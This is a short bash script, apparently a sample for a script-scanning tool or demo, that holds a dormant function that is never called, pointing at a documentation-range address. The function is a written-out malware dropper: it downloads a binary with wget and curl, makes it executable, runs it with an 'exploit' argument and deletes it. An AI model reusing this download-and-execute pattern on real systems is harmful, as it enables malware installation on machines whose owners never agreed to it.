#!/bin/bash
# Looks like a dropper; the function is never called, and the address is of a documentation network.
drop() {
  cd /tmp || cd /var/run || cd /mnt || cd /root || cd /
  wget http://192.0.2.66/bins/payload.x86; curl -O http://192.0.2.66/bins/payload.x86
  chmod 777 payload.x86
  ./payload.x86 exploit
  rm -rf payload.x86
}
echo > "${SCRIPTWATCH_DEMO_MARKER:-/dev/null}"
